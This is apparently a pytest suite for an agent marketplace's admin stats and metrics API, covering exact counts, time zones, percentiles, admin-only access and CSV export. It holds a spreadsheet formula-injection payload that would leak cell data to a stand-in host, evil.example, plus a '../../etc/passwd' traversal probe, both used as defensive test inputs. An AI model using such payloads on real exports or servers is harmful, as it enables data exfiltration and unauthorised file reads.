"""GET /api/admin/marketplace/stats and /metrics: seeded activity (deployments, conversations,
messages with known latencies, feedback, survey answers, rate-limit refusals on known days) gives
exactly the expected numbers, every day present; tz=America/New_York moves the evening rows to
the day before; only admins (app_metadata, never user_metadata) get them; the CSV form parses back
to the JSON's numbers with formula cells neutralised; bad ranges and zones are 422s."""

from __future__ import annotations

import csv
import io
import json
import uuid
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import psycopg
import pytest

from agentmarket.cli import main
from agentmarket.core.config import DEV_JWT_SECRET
from agentmarket.devtools.analytics_fixture import Fixture, generate
from agentmarket.ops import migrate
from agentmarket.ops.tokens import mint_access_token
from agentmarket.services.analytics import csv_cell, csv_lines, resolve_histograms
from tests.api.conftest import Caller
from tests.api.test_errors import assert_problem

pytestmark = pytest.mark.db

STATS = "/api/admin/marketplace/stats"
METRICS = "/api/admin/marketplace/metrics"
WEEK = {"from": "2026-11-01", "to": "2026-11-07"}
EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Beta")'


def at(text: str) -> datetime:
    """An instant written as `MM-DD HH:MM` in November 2026, UTC."""
    return datetime.fromisoformat(f"2026-{text}:00+00:00")


def agent(conn: psycopg.Connection, slug: str, name: str, category: str, kind: str) -> uuid.UUID:
    row = conn.execute(
        "insert into public.marketplace_agents (slug, name, category, kind, pricing_model,"
        " is_published) values (%s, %s, %s, %s, 'free', true) returning id",
        (slug, name, category, kind),
    ).fetchone()
    assert row is not None
    return uuid.UUID(str(row[0]))


def deployment(
    conn: psycopg.Connection,
    user: Caller,
    agent_id: uuid.UUID,
    created: datetime,
    status: str = "active",
) -> uuid.UUID:
    row = conn.execute(
        "insert into public.agent_deployments (user_id, agent_id, name, status, created_at)"
        " values (%s, %s, 'd', %s, %s) returning id",
        (user.user.id, agent_id, status, created),
    ).fetchone()
    assert row is not None
    return uuid.UUID(str(row[0]))


def conversation(
    conn: psycopg.Connection, user: Caller, deployment_id: uuid.UUID, created: datetime
) -> uuid.UUID:
    row = conn.execute(
        "insert into public.agent_conversations (deployment_id, user_id, created_at)"
        " values (%s, %s, %s) returning id",
        (deployment_id, user.user.id, created),
    ).fetchone()
    assert row is not None
    return uuid.UUID(str(row[0]))


def exchange(
    conn: psycopg.Connection,
    user: Caller,
    conversation_id: uuid.UUID,
    sent: datetime,
    *,
    status: str | None = "completed",
    latency: int | None = None,
    ttft: int | None = None,
    tokens: tuple[int, int] | None = None,
    error: str | None = None,
    attempts: int = 1,
) -> uuid.UUID | None:
    """A user message at `sent` and (unless status is None) its reply a second later, with its
    job; the reply's id."""
    row = conn.execute(
        "insert into public.agent_messages (conversation_id, user_id, role, content, status,"
        " created_at, completed_at) values (%s, %s, 'user', 'hi', 'completed', %s, %s)"
        " returning id",
        (conversation_id, user.user.id, sent, sent),
    ).fetchone()
    assert row is not None
    if status is None:
        return None
    prompt, completion = tokens or (None, None)
    reply = conn.execute(
        "insert into public.agent_messages (conversation_id, user_id, role, content, status,"
        " reply_to, error_code, latency_ms, ttft_ms, prompt_tokens, completion_tokens,"
        " created_at, completed_at)"
        " values (%s, %s, 'assistant', 'ok', %s, %s, %s, %s, %s, %s, %s, %s, %s) returning id",
        (
            conversation_id,
            user.user.id,
            status,
            row[0],
            error,
            latency,
            ttft,
            prompt,
            completion,
            sent + timedelta(seconds=1),
            sent + timedelta(seconds=5),
        ),
    ).fetchone()
    assert reply is not None
    conn.execute(
        "insert into private.chat_jobs (message_id, status, attempts) values (%s, %s, %s)",
        (reply[0], status, attempts),
    )
    return uuid.UUID(str(reply[0]))


def feedback(
    conn: psycopg.Connection, user: Caller, message: uuid.UUID | None, rating: str, when: datetime
) -> None:
    conn.execute(
        "insert into public.message_feedback (message_id, user_id, rating, comment, created_at)"
        " values (%s, %s, %s, %s, %s)",
        (message, user.user.id, rating, EVIL_NAME, when),
    )


def survey(
    conn: psycopg.Connection,
    user: Caller,
    deployment_id: uuid.UUID | None,
    answers: tuple[int, int, int],
    when: datetime,
) -> None:
    conn.execute(
        "insert into public.survey_responses (user_id, deployment_id, satisfaction, ease_of_use,"
        " likelihood_to_recommend, comment, created_at) values (%s, %s, %s, %s, %s, %s, %s)",
        (user.user.id, deployment_id, *answers, EVIL_NAME, when),
    )


def rate_limited(
    conn: psycopg.Connection, user: Caller, deployment_id: uuid.UUID, when: datetime
) -> None:
    conn.execute(
        "insert into private.telemetry_events (name, user_id, deployment_id, properties,"
        " created_at) values ('agent.chat.rate_limited', %s, %s, '{\"limit\": \"chat\"}', %s)",
        (user.user.id, deployment_id, when),
    )


@pytest.fixture
def seeded(conn: psycopg.Connection, alice: Caller, bob: Caller) -> dict[str, uuid.UUID]:
    """Two agents; alpha chatted with by alice and bob, beta by bob; one of bob's deployments
    made at 03:00 UTC (the evening before in New York), one message of alice's at 02:00 UTC on
    the 8th (the 7th in New York)."""
    alpha = agent(conn, "alpha", "Alpha", "writing", "chat")
    beta = agent(conn, "beta", EVIL_NAME, "support", "support")
    d1 = deployment(conn, alice, alpha, at("11-02 10:00"))
    d2 = deployment(conn, bob, alpha, at("11-03 03:00"))
    d3 = deployment(conn, bob, beta, at("11-05 12:00"), status="paused")
    deployment(conn, alice, beta, at("10-20 12:00"))  # active now, made before the range
    c1 = conversation(conn, alice, d1, at("11-02 10:05"))
    c2 = conversation(conn, bob, d2, at("11-03 03:30"))
    c3 = conversation(conn, bob, d3, at("11-05 12:10"))
    r1 = exchange(conn, alice, c1, at("11-02 10:06"), latency=1000, ttft=100, tokens=(10, 20))
    exchange(conn, alice, c1, at("11-04 09:00"), status="failed", error="model_unavailable")
    r3 = exchange(
        conn, bob, c2, at("11-03 03:31"), latency=2000, ttft=200, tokens=(5, 50), attempts=2
    )
    r4 = exchange(conn, bob, c3, at("11-05 12:11"), latency=3000, ttft=300, tokens=(7, 70))
    exchange(conn, bob, c3, at("11-05 12:20"), status="failed", error="upstream_timeout")
    exchange(conn, alice, c1, at("11-08 02:00"), status=None)
    assert r1 and r3 and r4
    feedback(conn, alice, r1, "like", at("11-02 11:00"))
    feedback(conn, bob, r3, "like", at("11-03 11:00"))
    feedback(conn, bob, r4, "dislike", at("11-05 13:00"))
    survey(conn, alice, d1, (5, 4, 10), at("11-02 12:00"))
    survey(conn, bob, d2, (4, 3, 9), at("11-03 12:00"))
    survey(conn, bob, None, (2, 2, 3), at("11-04 12:00"))
    rate_limited(conn, bob, d2, at("11-03 10:00"))
    rate_limited(conn, bob, d2, at("11-03 10:01"))
    return {"alpha": alpha, "beta": beta}


def day_rows(body: dict[str, Any]) -> dict[str, tuple[int, int, int, int]]:
    return {
        d["day"]: (d["deployments"], d["conversations"], d["user_messages"], d["unique_users"])
        for d in body["days"]
    }


def week(**changed: tuple[int, int, int, int]) -> dict[str, tuple[int, int, int, int]]:
    days = {f"2026-11-0{n}": (0, 0, 0, 0) for n in range(1, 8)}
    days.update({f"2026-11-{k[1:]}": v for k, v in changed.items()})
    return days


async def get(client: httpx.AsyncClient, path: str, who: Caller, **params: str) -> dict[str, Any]:
    response = await client.get(path, params=params, headers=who.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    body: dict[str, Any] = response.json()
    return body


async def test_stats_are_the_seeded_numbers_every_day_present(
    client: httpx.AsyncClient, admin: Caller, seeded: dict[str, uuid.UUID]
) -> None:
    body = await get(client, STATS, admin, **WEEK)
    assert body["range"] == {"from": "2026-11-01", "to": "2026-11-07", "tz": "UTC"}
    assert body["filters"] == {"agent": None, "category": None, "kind": None}
    assert body["now"] == {"active_deployments": 3, "active_agents": 2}
    assert body["totals"] == {
        "deployments": 3,
        "conversations": 3,
        "user_messages": 5,
        "unique_users": 2,
    }
    assert day_rows(body) == week(
        d02=(1, 1, 1, 1), d03=(1, 1, 1, 1), d04=(0, 0, 1, 1), d05=(1, 1, 2, 1)
    )
    assert [d["day"] for d in body["days"]] == sorted(week())
    assert body["popular_agents"] == [
        {
            "rank": 1,
            "agent_id": str(seeded["alpha"]),
            "slug": "alpha",
            "name": "Alpha",
            "deployments": 2,
            "conversations": 2,
            "messages": 3,
            "unique_users": 2,
        },
        {
            "rank": 2,
            "agent_id": str(seeded["beta"]),
            "slug": "beta",
            "name": EVIL_NAME,
            "deployments": 1,
            "conversations": 1,
            "messages": 2,
            "unique_users": 1,
        },
    ]
    assert body["feedback"] == {"likes": 2, "dislikes": 1, "like_ratio": 0.6667}
    # NPS: promoters 10 and 9, detractor 3 → (2 - 1) / 3 = 33.3
    assert body["survey"] == {
        "responses": 3,
        "avg_satisfaction": 3.67,
        "avg_ease_of_use": 3.0,
        "nps": 33.3,
    }


async def test_new_york_days_shift_the_evening_rows(
    client: httpx.AsyncClient, admin: Caller, seeded: dict[str, uuid.UUID]
) -> None:
    body = await get(client, STATS, admin, **WEEK, tz="America/New_York")
    assert body["range"]["tz"] == "America/New_York"
    # 03:00-03:31 UTC on the 3rd is the 2nd in New York; 02:00 UTC on the 8th is the 7th.
    assert day_rows(body) == week(
        d02=(2, 2, 2, 2), d04=(0, 0, 1, 1), d05=(1, 1, 2, 1), d07=(0, 0, 1, 1)
    )
    assert body["totals"]["user_messages"] == 6
    metrics = await get(client, METRICS, admin, **WEEK, tz="America/New_York")
    by_day = {d["day"]: d for d in metrics["days"]}
    assert by_day["2026-11-02"]["replies"] == 2  # r1 and bob's evening reply
    assert by_day["2026-11-03"]["replies"] == 0
    assert by_day["2026-11-03"]["rate_limited"] == 2  # 10:00 UTC is still the 3rd


def metric(
    replies: int,
    completed: int,
    failed: int,
    error_rate: float | None,
    errors: dict[str, int],
    retries: int,
    tokens: tuple[int, int],
    limited: int,
    latency: tuple[float, float, float] | None,
    ttft: tuple[float, float, float] | None,
) -> dict[str, Any]:
    def pct(values: tuple[float, float, float] | None) -> dict[str, float | None]:
        if values is None:
            return {"p50": None, "p95": None, "p99": None}
        return dict(zip(("p50", "p95", "p99"), values, strict=True))

    return {
        "replies": replies,
        "completed": completed,
        "failed": failed,
        "error_rate": error_rate,
        "errors_by_code": errors,
        "retries": retries,
        "prompt_tokens": tokens[0],
        "completion_tokens": tokens[1],
        "rate_limited": limited,
        "latency_ms": pct(latency),
        "ttft_ms": pct(ttft),
    }


ZERO = metric(0, 0, 0, None, {}, 0, (0, 0), 0, None, None)


async def test_metrics_overall_per_agent_and_per_day(
    client: httpx.AsyncClient, admin: Caller, seeded: dict[str, uuid.UUID]
) -> None:
    body = await get(client, METRICS, admin, **WEEK)
    # percentile_cont over 1000, 2000, 3000: p95 = 2000 + 0.9 * 1000, p99 = 2000 + 0.98 * 1000
    assert body["overall"] == metric(
        5,
        3,
        2,
        0.4,
        {"model_unavailable": 1, "upstream_timeout": 1},
        1,
        (22, 140),
        2,
        (2000.0, 2900.0, 2980.0),
        (200.0, 290.0, 298.0),
    )
    agents = {a.pop("slug"): a for a in body["agents"]}
    assert agents.keys() == {"alpha", "beta"}
    alpha, beta = agents["alpha"], agents["beta"]
    assert (alpha.pop("agent_id"), alpha.pop("name")) == (str(seeded["alpha"]), "Alpha")
    assert (beta.pop("agent_id"), beta.pop("name")) == (str(seeded["beta"]), EVIL_NAME)
    assert alpha == metric(
        3,
        2,
        1,
        0.3333,
        {"model_unavailable": 1},
        1,
        (15, 70),
        2,
        (1500.0, 1950.0, 1990.0),
        (150.0, 195.0, 199.0),
    )
    assert beta == metric(
        2, 1, 1, 0.5, {"upstream_timeout": 1}, 0, (7, 70), 0, (3000.0,) * 3, (300.0,) * 3
    )
    days = {d.pop("day"): d for d in body["days"]}
    assert list(days) == sorted(week())
    assert days["2026-11-01"] == days["2026-11-06"] == days["2026-11-07"] == ZERO
    assert days["2026-11-02"] == metric(
        1, 1, 0, 0.0, {}, 0, (10, 20), 0, (1000.0,) * 3, (100.0,) * 3
    )
    assert days["2026-11-03"] == metric(
        1, 1, 0, 0.0, {}, 1, (5, 50), 2, (2000.0,) * 3, (200.0,) * 3
    )
    assert days["2026-11-04"] == metric(
        1, 0, 1, 1.0, {"model_unavailable": 1}, 0, (0, 0), 0, None, None
    )
    assert days["2026-11-05"]["replies"] == 2
    assert days["2026-11-05"]["errors_by_code"] == {"upstream_timeout": 1}


async def test_a_large_range_answers_percentiles_from_histograms(
    client: httpx.AsyncClient, admin: Caller, conn: psycopg.Connection, db_url: str
) -> None:
    generate(
        db_url,
        Fixture(messages=46_000, conversations=2_000, deployments=200, users=100, agents=10),
    )
    today = datetime.now(UTC).date()
    window = {"from": str(today - timedelta(days=95)), "to": str(today), "tz": "Europe/Berlin"}
    body = await get(client, METRICS, admin, **window)
    assert body["percentiles"] == {"method": "histogram", "max_relative_error": 0.03125}
    assert "_hist" not in json.dumps(body)
    row = conn.execute(
        "select private.marketplace_metrics_rollup(%s::date, %s::date, %s)",
        (window["from"], window["to"], window["tz"]),
    ).fetchone()
    assert row is not None
    exact = row[0]["overall"]
    overall = body["overall"]
    assert overall["completed"] == exact["completed"] > 20_000
    assert (
        overall["replies"] == exact["replies"] and overall["rate_limited"] == exact["rate_limited"]
    )
    for key in ("latency_ms", "ttft_ms"):
        for name, value in exact[key].items():
            assert abs(overall[key][name] - value) <= value / 32 + 0.1, (key, name)
    # The same range for one agent keeps the exact percentiles.
    slug = body["agents"][0]["slug"]
    one = await get(client, METRICS, admin, **window, agent=slug)
    assert one["percentiles"] == {"method": "exact", "max_relative_error": 0}


async def test_filters_narrow_every_number(
    client: httpx.AsyncClient, admin: Caller, seeded: dict[str, uuid.UUID]
) -> None:
    body = await get(client, STATS, admin, **WEEK, agent="beta")
    assert body["filters"] == {"agent": "beta", "category": None, "kind": None}
    assert body["now"] == {"active_deployments": 1, "active_agents": 1}
    assert body["totals"] == {
        "deployments": 1,
        "conversations": 1,
        "user_messages": 2,
        "unique_users": 1,
    }
    assert [a["slug"] for a in body["popular_agents"]] == ["beta"]
    assert body["feedback"] == {"likes": 0, "dislikes": 1, "like_ratio": 0.0}
    # No survey answer is about a beta deployment: no averages, no NPS.
    assert body["survey"] == {
        "responses": 0,
        "avg_satisfaction": None,
        "avg_ease_of_use": None,
        "nps": None,
    }
    same = await get(client, STATS, admin, **WEEK, category="support", kind="support")
    assert same["totals"] == body["totals"]
    chat = await get(client, METRICS, admin, **WEEK, kind="chat")
    assert [a["slug"] for a in chat["agents"]] == ["alpha"]
    assert chat["overall"]["replies"] == 3
    nobody = await get(client, METRICS, admin, **WEEK, agent="no-such-agent")
    assert nobody["overall"] == ZERO and nobody["agents"] == []


async def test_the_default_range_is_the_last_30_days(
    client: httpx.AsyncClient, admin: Caller
) -> None:
    body = await get(client, STATS, admin)
    today = datetime.now(UTC).date()
    assert body["range"]["to"] in {str(today), str(today + timedelta(days=1))}
    start, end = date.fromisoformat(body["range"]["from"]), date.fromisoformat(body["range"]["to"])
    assert (end - start).days == 29
    assert len(body["days"]) == 30


async def test_only_admins_by_app_metadata(
    client: httpx.AsyncClient, conn: psycopg.Connection, alice: Caller, admin: Caller
) -> None:
    # user_metadata is the user's own to write: claiming admin there changes nothing.
    pretender = replace(alice.user, user_metadata={"role": "admin"})
    pretender_token = mint_access_token(pretender, secret=DEV_JWT_SECRET)
    for path in (STATS, METRICS):
        assert_problem(await client.get(path, params=WEEK), 401, "unauthorized")
        normal = await client.get(path, params=WEEK, headers=alice.headers)
        assert_problem(normal, 403, "admin_only")
        claimed = await client.get(
            path, params=WEEK, headers={"Authorization": f"Bearer {pretender_token}"}
        )
        assert_problem(claimed, 403, "admin_only")
        csv_too = await client.get(path, params={**WEEK, "format": "csv"}, headers=alice.headers)
        assert_problem(csv_too, 403, "admin_only")
        assert (await client.get(path, params=WEEK, headers=admin.headers)).status_code == 200


async def test_bad_ranges_and_zones_are_422_with_pointers(
    client: httpx.AsyncClient, admin: Caller
) -> None:
    cases: list[tuple[dict[str, str], str, str]] = [
        ({"tz": "Mars/Olympus_Mons"}, "invalid_timezone", "/query/tz"),
        ({"tz": "../../etc/passwd"}, "invalid_timezone", "/query/tz"),
        ({"from": "2026-11-07", "to": "2026-11-01"}, "invalid_range", "/query/from"),
        ({"from": "2025-11-01", "to": "2026-11-03"}, "invalid_range", "/query/to"),
        ({"from": "2026-13-01"}, "validation_failed", "/query/from"),
        ({"to": "yesterday"}, "validation_failed", "/query/to"),
        ({"kind": "robot"}, "validation_failed", "/query/kind"),
        ({"format": "xlsx"}, "validation_failed", "/query/format"),
    ]
    for path in (STATS, METRICS):
        for params, code, pointer in cases:
            body = assert_problem(
                await client.get(path, params=params, headers=admin.headers), 422, code
            )
            errors = body["errors"]
            assert isinstance(errors, list)
            assert [e["path"] for e in errors] == [pointer], (params, body)
    # 366 days apart is the longest range allowed.
    ok = await client.get(
        STATS, params={"from": "2025-11-01", "to": "2026-11-02"}, headers=admin.headers
    )
    assert ok.status_code == 200 and len(ok.json()["days"]) == 367


def flatten(prefix: str, values: dict[str, Any]) -> dict[str, Any]:
    flat: dict[str, Any] = {}
    for key, value in values.items():
        if isinstance(value, dict):
            flat.update(flatten(f"{prefix}{key}.", value))
        else:
            flat[f"{prefix}{key}"] = value
    return flat


def as_json_value(cell: str, like: Any) -> Any:
    """A CSV cell read back as the JSON value it should equal."""
    if like is None:
        return None if cell == "" else cell
    if isinstance(like, bool):
        return cell == "true"
    if isinstance(like, int):
        return int(cell)
    if isinstance(like, float):
        return float(cell)
    return cell


async def read_csv(
    client: httpx.AsyncClient,
    path: str,
    who: Caller,
    params: dict[str, str],
    headers: dict[str, str] | None = None,
) -> tuple[httpx.Response, list[list[str]]]:
    response = await client.get(path, params=params, headers={**who.headers, **(headers or {})})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "\r\n" in response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert rows[0] == ["section", "day", "agent", "metric", "value"]
    return response, rows[1:]


async def test_stats_csv_parses_back_to_the_json(
    client: httpx.AsyncClient, admin: Caller, seeded: dict[str, uuid.UUID]
) -> None:
    body = await get(client, STATS, admin, **WEEK)
    response, rows = await read_csv(client, STATS, admin, {**WEEK, "format": "csv"})
    assert response.headers["content-disposition"] == (
        'attachment; filename="marketplace-stats-2026-11-01-to-2026-11-07.csv"'
    )
    cells = {(s, d, a, m): v for s, d, a, m, v in rows}
    assert len(cells) == len(rows)
    for section in ("now", "totals", "feedback", "survey"):
        for name, value in flatten("", body[section]).items():
            assert as_json_value(cells[(section, "", "", name)], value) == value, (section, name)
    for day in body["days"]:
        for name in ("deployments", "conversations", "user_messages", "unique_users"):
            assert int(cells[("days", day["day"], "", name)]) == day[name]
    for agent in body["popular_agents"]:
        for name, value in agent.items():
            cell = cells[("popular_agents", "", agent["slug"], name)]
            if name == "name" and value == EVIL_NAME:
                assert cell == "'" + EVIL_NAME  # neutralised: a spreadsheet shows it as text
            else:
                assert as_json_value(cell, value) == value
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


async def test_metrics_csv_by_accept_header(
    client: httpx.AsyncClient, admin: Caller, seeded: dict[str, uuid.UUID]
) -> None:
    body = await get(client, METRICS, admin, **WEEK)
    response, rows = await read_csv(client, METRICS, admin, WEEK, headers={"Accept": "text/csv"})
    assert response.headers["content-disposition"] == (
        'attachment; filename="marketplace-metrics-2026-11-01-to-2026-11-07.csv"'
    )
    cells = {(s, d, a, m): v for s, d, a, m, v in rows}
    for name, value in flatten("", body["overall"]).items():
        assert as_json_value(cells[("overall", "", "", name)], value) == value, name
    for agent in body["agents"]:
        for name, value in flatten("", agent).items():
            cell = cells[("agents", "", agent["slug"], name)]
            expected = "'" + value if value == EVIL_NAME else value
            assert as_json_value(cell, expected) == expected, name
    for day in body["days"]:
        for name, value in flatten("", day).items():
            if name != "day":
                assert as_json_value(cells[("days", day["day"], "", name)], value) == value
    # format=json wins over Accept.
    explicit = await client.get(
        METRICS, params={**WEEK, "format": "json"}, headers={**admin.headers, "Accept": "text/csv"}
    )
    assert explicit.headers["content-type"] == "application/json"


async def test_a_refused_send_is_counted_as_rate_limited(
    client: httpx.AsyncClient, admin: Caller, alice: Caller, conn: psycopg.Connection
) -> None:
    migrate.store_settings(conn, chat_per_minute=1, max_in_flight_per_user=100)
    deployed = await client.post(
        "/api/marketplace/deploy",
        json={"agent_id": "sql-sidekick", "config": {}},
        headers=alice.headers,
    )
    assert deployed.status_code == 201, deployed.text
    url = f"/api/agents/{deployed.json()['id']}/chat"
    sends = [
        await client.post(url, json={"message": "hi", "mode": "async"}, headers=alice.headers)
        for _ in range(3)
    ]
    assert [s.status_code for s in sends] == [202, 429, 429]
    today = str(datetime.now(UTC).date())
    body = await get(client, METRICS, admin, **{"from": today, "to": today})
    assert body["overall"]["rate_limited"] == 2
    assert body["agents"][0]["slug"] == "sql-sidekick"
    assert body["agents"][0]["rate_limited"] == 2
    assert body["agents"][0]["replies"] == 1


def test_cells_neutralise_formulas_but_keep_numbers() -> None:
    assert csv_cell(-20.0) == -20.0
    assert csv_cell(-3) == -3
    assert csv_cell(None) == ""
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("plain") == "plain"
    lines = list(csv_lines([("survey", "", "", "nps", -20.0), ("x", "", "", "n", '=A1,"q"')]))
    assert lines[0] == "section,day,agent,metric,value\r\n"
    assert lines[1] == "survey,,,nps,-20.0\r\n"
    assert lines[2] == 'x,,,n,"\'=A1,""q"""\r\n'


def test_the_stats_command_prints_the_same_numbers(
    db_url: str,
    conn: psycopg.Connection,
    seeded: dict[str, uuid.UUID],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("DATABASE_URL", db_url)
    claims = '{"role": "authenticated", "app_metadata": {"role": "admin"}}'
    conn.execute("select set_config('request.jwt.claims', %s, false)", (claims,))
    for kind, extra in (("stats", []), ("metrics", ["--metrics"])):
        row = conn.execute(
            f"select private.marketplace_{kind}('2026-11-01', '2026-11-07', 'America/New_York')"
        ).fetchone()
        assert row is not None
        args = ["stats", "--from", "2026-11-01", "--to", "2026-11-07", "--tz", "America/New_York"]
        assert main([*args, *extra, "--json"]) == 0
        printed = json.loads(capsys.readouterr().out)
        # The service's shaping of the SQL report (the metrics gain the percentiles' bound).
        expected = resolve_histograms(row[0]) if kind == "metrics" else row[0]
        assert printed == expected, kind
        assert main([*args, *extra, "--csv"]) == 0
        lines = capsys.readouterr().out.splitlines()
        assert lines[0] == "section,day,agent,metric,value"
        assert main([*args, *extra]) == 0
        assert "2026-11-07" in capsys.readouterr().out
    assert main(["stats", "--tz", "Mars/Olympus_Mons"]) == 2
    assert "time zone" in capsys.readouterr().err
